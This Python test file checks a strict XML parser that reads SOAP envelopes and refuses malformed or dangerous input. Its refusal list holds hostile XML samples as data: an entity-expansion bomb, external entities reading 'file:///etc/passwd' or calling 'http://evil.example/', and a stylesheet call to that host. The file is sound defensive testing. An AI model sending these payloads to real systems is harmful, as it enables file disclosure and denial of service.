"""Strict XML: what a vendor may send, and what is refused before a tree is built."""

import contextlib
import traceback

import pytest
from hypothesis import given
from hypothesis import strategies as st

from proofing.base.strict_xml import MAX_DEPTH, MAX_NODES, parse_xml

SOAP = b"""<?xml version="1.0" encoding="UTF-8"?>
<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope" xmlns:d="urn:dldv"><!-- noted -->
  <s:Body><d:Answer id="7" d:kind="x"><d:Match>true</d:Match>
  <d:Name>&lt;O&apos;Brien &#65;&gt;</d:Name></d:Answer></s:Body>
</s:Envelope>"""


def test_an_envelope_of_soap():
    """Namespaces are in the names, the five entities and characters by number are read, comments are not."""
    root = parse_xml(SOAP)
    assert root.tag == "{http://www.w3.org/2003/05/soap-envelope}Envelope"
    answer = root.find(".//{urn:dldv}Answer")
    assert answer.attrib == {"id": "7", "{urn:dldv}kind": "x"}
    assert answer.findtext("{urn:dldv}Match") == "true"
    assert answer.findtext("{urn:dldv}Name") == "<O'Brien A>"


BOMB = b'<!DOCTYPE a [<!ENTITY b "bbbbbbbb"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"text",
        b"<a>",
        b"<a></b>",
        b"<a/><b/>",
        b"<a>\x00</a>",
        b"<a>&#0;</a>",
        b"<a>\xff</a>",
        b"<a b='1' b='2'/>",
        b"<a>&other;</a>",
        b"<d:a/>",
        BOMB,
        b"<!DOCTYPE a><a/>",
        b'<!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>',
        b'<!DOCTYPE a [<!ENTITY b SYSTEM "http://evil.example/">]><a>&b;</a>',
        b'<!DOCTYPE a [<!ENTITY % b SYSTEM "http://evil.example/">%b;]><a/>',
        b'<!DOCTYPE a [<!ATTLIST a b CDATA "c">]><a/>',
        b'<?xml-stylesheet href="http://evil.example/"?><a/>',
        b"<a><?php echo 1 ?></a>",
        b'<?xml version="1.0" encoding="utf-7"?><a/>',
        b'<?xml version="1.0" encoding="cp037"?><a/>',
        b'<?xml version="1.0" encoding="rot13"?><a/>',
        b'<?xml version="1.0" encoding="none"?><a/>',
        b'<?xml version="1.1"?><a/>' + b"<a/>",
        b"<a>" * 1_000_000,
        b"<a>" * 100_000 + b"</a>" * 100_000,
    ],
)
def test_what_is_refused(content):
    """With one error, which quotes nothing."""
    with pytest.raises(ValueError, match=r"^not acceptable XML$") as caught:
        parse_xml(content)
    assert caught.value.__context__ is None
    assert "evil" not in "".join(traceback.format_exception(caught.value, chain=True)).replace(
        str(content), ""
    )


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "us-ascii", "iso-8859-1"])
def test_encodings_that_every_parser_reads(encoding):
    """And their names in any case."""
    text = f'<?xml version="1.0" encoding="{encoding.upper()}"?><a>Susan</a>'
    assert parse_xml(text.encode(encoding)).text == "Susan"


def test_borders_of_depth_and_number():
    """Each at its cap, and one beyond; attributes count."""
    parse_xml(b"<a>" * MAX_DEPTH + b"</a>" * MAX_DEPTH)
    with pytest.raises(ValueError, match="acceptable"):
        parse_xml(b"<a>" * (MAX_DEPTH + 1) + b"</a>" * (MAX_DEPTH + 1))
    parse_xml(b"<a>" + b"<b/>" * (MAX_NODES - 1) + b"</a>")
    with pytest.raises(ValueError, match="acceptable"):
        parse_xml(b"<a>" + b"<b/>" * MAX_NODES + b"</a>")
    parse_xml(b"<a b='' c=''/>", max_nodes=3)
    with pytest.raises(ValueError, match="acceptable"):
        parse_xml(b"<a b='' c=''/>", max_nodes=2)


@given(st.binary(max_size=300) | st.text(alphabet="<>/&;ab!?[]\"'= #x", max_size=60).map(str.encode))
def test_whatever_comes_is_a_tree_or_one_error(content):
    """No other exception escapes."""
    with contextlib.suppress(ValueError):
        assert isinstance(parse_xml(content).tag, str)
